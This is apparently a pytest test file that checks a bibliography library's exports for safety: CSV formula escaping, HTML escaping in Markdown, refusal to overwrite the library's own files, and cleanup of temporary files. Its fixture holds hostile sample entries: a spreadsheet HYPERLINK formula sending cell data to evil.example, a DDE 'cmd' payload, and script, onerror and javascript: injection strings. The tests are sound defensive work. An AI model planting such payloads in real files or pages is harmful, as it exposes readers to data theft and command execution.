"""Exports that could attack their readers or their source.

A CSV cell starting `=`, `+`, `-`, `@`, tab or CR runs as a formula when a spreadsheet opens the
file; raw HTML in a Markdown list runs in whatever renders it; `export -o` onto the
catalog would replace every paper; a killed export left its temporary file forever.
"""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from support import OnDisk

from storage import ExportFormat, Library, SetNote, SetTags, View
from storage.errors import OutputFileError
from storage.library_files import catalog_path_for, journal_path_for

HOSTILE_BIB = r"""
@article{formula2020,
  title = {=HYPERLINK("http://evil.example/?"&A1,"click")},
  author = {@SUM(A1:A9) and Doe, Jane},
  journal = {+cmd|' /C calc'!A0},
  year = {2020},
}
@article{html2021,
  title = {<script>alert(1)</script> and <img src=x onerror=alert(2)>},
  journal = {Journal of [links](javascript:alert(3))},
  year = {2021},
}
"""
HOSTILE_KEYS = ("formula2020", "html2021")


@pytest.fixture
def hostile(library: Library, tmp_path: Path) -> Library:
    bib = tmp_path / "hostile.bib"
    bib.write_text(HOSTILE_BIB, encoding="utf-8")
    assert not library.import_files([bib]).failed
    formula = library.find_key("formula2020")
    html = library.find_key("html2021")
    assert formula is not None and html is not None
    library.apply(SetNote("-2+3 is a formula too\n<iframe src=x></iframe>"), [formula.paper.id])
    library.apply(SetTags(["=tag", "+plus"]), [formula.paper.id])
    library.apply(SetNote("<b>bold</b> & *kept* Markdown"), [html.paper.id])
    tab, cr = [e.paper.id for e in library.search(View()) if e.paper.key not in HOSTILE_KEYS][:2]
    library.apply(SetNote("\tTab first"), [tab])  # notes keep what was typed
    library.apply(SetNote("\r=CR first"), [cr])
    return library


def test_no_csv_cell_starts_like_a_formula(hostile: Library) -> None:
    text = hostile.export(ExportFormat.CSV, View("")).text
    rows = list(csv.DictReader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    formula = next(row for row in rows if row["key"] == "formula2020")
    assert formula["title"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert formula["journal"] == "'+cmd|' /C calc'!A0"
    assert formula["authors"].startswith("'@SUM")
    assert formula["note"].startswith("'-2+3")
    assert formula["tags"] == "'=tag; +plus"
    assert {"'\tTab first", "'\r=CR first"} <= {row["note"] for row in rows}


def test_markdown_export_shows_html_as_text(hostile: Library) -> None:
    text = hostile.export(ExportFormat.MARKDOWN, View("")).text
    for raw in ("<script", "<img", "<iframe", "<b>", "[links]("):
        assert raw not in text
    assert r"\[links\](javascript:alert(3))" in text, "a link written as text"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "&lt;b&gt;bold&lt;/b&gt; &amp; *kept* Markdown" in text, "a note keeps its Markdown"


@pytest.mark.parametrize("which", ["library", "catalog", "journal", "link to the catalog"])
def test_export_onto_the_librarys_own_files_is_refused(
    library: Library, db_path: Path, on_disk: OnDisk, which: str
) -> None:
    files = [db_path, catalog_path_for(db_path), journal_path_for(db_path)]
    before = {path: path.read_bytes() for path in files}
    target = {
        "library": db_path,
        "catalog": catalog_path_for(db_path),
        "journal": journal_path_for(db_path),
        "link to the catalog": db_path.with_name("papers.bib"),
    }[which]
    if which.startswith("link"):
        target.symlink_to(catalog_path_for(db_path))
    with pytest.raises(OutputFileError, match="this library's own file"):
        library.export_to(target, ExportFormat.BIBTEX, View(""))
    assert {path: path.read_bytes() for path in files} == before
    assert len(on_disk().search(View(""))) == 9


def test_a_killed_exports_temporary_file_is_removed_by_the_next(
    library: Library, tmp_path: Path
) -> None:
    """A real export is SIGKILLed while its temporary file is written (its fsync made to
    hang); the next export to the same file removes it, and keeps a live writer's."""
    target = tmp_path / "out.bib"
    script = (
        "import os, sys, time\n"
        "from pathlib import Path\n"
        "from storage.formats import save_export\n"
        "os.fsync = lambda fd: time.sleep(60)\n"
        "save_export(Path(sys.argv[1]), 'half an export')\n"
    )
    writer = subprocess.Popen([sys.executable, "-c", script, str(target)], cwd=Path.cwd())
    pattern = f".*{target.name}.{writer.pid}.*.tmp"
    deadline = time.monotonic() + 30
    while not list(tmp_path.glob(pattern)) and time.monotonic() < deadline:
        time.sleep(0.05)
    (abandoned,) = tmp_path.glob(pattern)
    os.kill(writer.pid, signal.SIGKILL)
    writer.wait()
    # The same name from a writer that is running (this process) must be left alone.
    live = abandoned.with_name(abandoned.name.replace(f".{writer.pid}.", f".{os.getpid()}."))
    live.write_text("another export, still being written")
    library.export_to(target, ExportFormat.BIBTEX, View(""))
    assert not abandoned.exists()
    assert live.exists()
    assert target.read_text().count("@") == 9
